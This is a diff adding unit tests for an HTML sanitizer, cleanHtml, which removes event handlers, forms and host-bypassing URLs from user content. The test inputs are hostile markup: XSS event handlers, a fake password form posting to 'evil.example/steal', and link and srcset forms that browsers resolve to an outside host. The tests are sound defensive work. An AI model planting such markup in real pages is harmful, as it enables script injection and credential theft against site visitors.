@@ -23,10 +23,30 @@ describe('cleanHtml', () => {
   });
 
   it('removes event handlers and keeps the elements they were on', () => {
+    const html = '<img src="data:image/png;base64,AAAA" alt="坏图" onerror="window.__xss = 1">' + '<p onclick="window.__xss = 10">领取</p>';
+    expect(cleanHtml(html)).toBe('<img src="data:image/png;base64,AAAA" alt="坏图"><p>领取</p>');
+  });
+
+  // A form in an article or message could ask for a password and post it elsewhere: the controls go, their text stays.
+  it('removes forms and their controls and keeps the text', () => {
     const html =
-      '<img src="data:image/png;base64,AAAA" alt="坏图" onerror="window.__xss = 1">' +
-      '<button type="button" onclick="window.__xss = 10">领取</button>';
-    expect(cleanHtml(html)).toBe('<img src="data:image/png;base64,AAAA" alt="坏图"><button type="button">领取</button>');
+      '<p>安全验证</p><form action="https://evil.example/steal" method="post"><fieldset><legend>登录</legend>' +
+      '<label for="p">密码</label><input id="p" type="password" name="password">' +
+      '<select name="bank"><option>招商银行</option></select><textarea name="note">备注</textarea>' +
+      '<button type="submit" formaction="https://evil.example/">提交</button></fieldset></form>';
+    expect(cleanHtml(html)).toBe('<p>安全验证</p>登录密码招商银行备注提交');
+  });
+
+  it('removes link and image addresses that browsers read as another host, and keeps our own', () => {
+    const html =
+      '<a href="/\\evil.example/x">一</a><a href="//evil.example/x">二</a><a href="/%2F%2Fevil.example">三</a>' +
+      '<a href="/%5Cevil.example">四</a><a href="\\\\evil.example">五</a><a href=" /\t/evil.example">六</a>' +
+      '<img src="/\\evil.example/x.png" alt="a"><img src="/uploads/ok.png" srcset="/uploads/ok.png 1x, //evil.example/x.png 2x" alt="b">' +
+      '<a href="/#/activity">活动</a><a href="https://m.example.com/a">站外</a>';
+    expect(cleanHtml(html)).toBe(
+      '<a>一</a><a>二</a><a>三</a><a>四</a><a>五</a><a>六</a><img alt="a"><img src="/uploads/ok.png" alt="b">' +
+        '<a href="/#/activity">活动</a><a href="https://m.example.com/a">站外</a>',
+    );
   });
 
   it('removes frames and SVG script hooks and keeps ordinary links', () => {
